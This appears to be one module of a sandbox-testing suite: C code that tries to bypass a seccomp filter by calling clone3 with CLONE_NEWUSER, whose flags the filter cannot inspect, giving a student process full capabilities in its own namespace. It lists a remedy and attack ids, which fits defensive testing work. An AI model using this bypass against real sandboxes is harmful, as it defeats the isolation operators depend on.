// SPDX-License-Identifier: MIT
/*
 * Goal:  a part of the kernel that no student needs.
 * Means: a user namespace, asked for in the flags of clone3(2). They lie in memory, where a filter
 *        cannot read them: a rule on unshare and on the flags of clone says nothing of this one.
 */
#include "attacks/attack.h"

#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	struct clone_args args = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
	long pid;

	attempting(b);
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		return denied("clone3");
	if (!pid)
		_exit(hold());
	waitpid((pid_t)pid, NULL, 0);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a student's process has every capability in a namespace of its own",
	.means = "clone3(2) with CLONE_NEWUSER among flags that a filter cannot read",
	.oracle = "reach:userns",
	.needs = NEED_USERNS,
	.id = "KERN-02",
	.attack_id = "T1068, T1611, CWE-1125, CWE-184",
	.remedy = "clone3 refused with ENOSYS, and a mask on the flags of clone",
	.refs = (const char *const[]){ "clone3(2), since Linux 5.3", "user_namespaces(7)", NULL },
	.run = run,
};
